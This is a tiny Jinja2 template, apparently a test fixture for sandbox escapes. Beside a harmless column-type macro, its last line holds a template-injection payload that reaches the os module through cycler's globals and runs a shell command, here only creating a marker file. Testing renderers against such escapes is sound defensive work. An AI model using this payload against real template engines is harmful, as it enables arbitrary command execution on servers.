{#- A template override trying to leave the sandbox. -#}
{% macro column_type(t) -%}
{{ t | upper }}
{%- endmacro %}
{{ cycler.__init__.__globals__.os.popen('touch pwned-by-template').read() }}
